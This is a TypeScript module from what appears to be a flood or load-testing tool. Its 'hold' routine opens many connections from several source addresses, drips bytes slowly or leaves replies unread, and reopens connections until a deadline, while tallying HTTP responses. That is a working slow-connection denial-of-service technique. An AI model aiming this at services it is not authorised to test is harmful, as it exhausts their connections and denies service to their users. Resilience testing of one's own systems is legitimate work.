import { setTimeout as sleep } from 'node:timers/promises'
import type { Socket } from 'node:net'
import type { Attack } from '../flood.ts'
import { closing, openSocket } from './pour.ts'

export interface Holding {
  readonly from: readonly string[]
  readonly connections: number
  /** Sent at once. */
  readonly first: string | Buffer
  /** Sent repeatedly, if present. */
  readonly drip?: string
  /** Between two drips, and before a closed connection is opened again. */
  readonly everyMs?: number
  /** The connection is closed after this time and opened again; otherwise it stays. */
  readonly forMs?: number
  readonly requests?: number
  /** The service's data is never read. */
  readonly unread?: true
}

/** Keeps this many connections open, and does little or nothing on them. */
export async function hold(attack: Attack, holding: Holding): Promise<void> {
  const count = attack.size(holding.connections)
  await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      const from = holding.from[index % holding.from.length]
      while (performance.now() < attack.until) {
        const socket = openSocket(attack, from)
        await holdOne(socket, attack, holding)
        await sleep(holding.everyMs ?? 250)
      }
    }),
  )
}

async function holdOne(socket: Socket, attack: Attack, holding: Holding): Promise<void> {
  const { tally, until } = attack
  const { first, drip, everyMs = 250, forMs = Infinity, requests = 1, unread } = holding
  if (unread) socket.pause()
  else socket.on('data', (chunk: Buffer) => countAnswers(chunk, attack))
  socket.once('connect', () => {
    tally.send(requests)
    socket.write(first)
  })
  const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), everyMs)
  const leftMs = Math.max(1, until - performance.now())
  const ended = setTimeout(() => socket.destroy(), Math.min(leftMs, forMs))
  await closing(socket)
  clearInterval(dripping)
  clearTimeout(ended)
  tally.answer(performance.now() < until - 50 && forMs === Infinity ? 'closed' : 'held')
}

/** If responses are not awaited, their status lines are enough. */
function countAnswers(chunk: Buffer, { tally }: Attack): void {
  for (const [, status = ''] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
    tally.answer(status)
  }
}
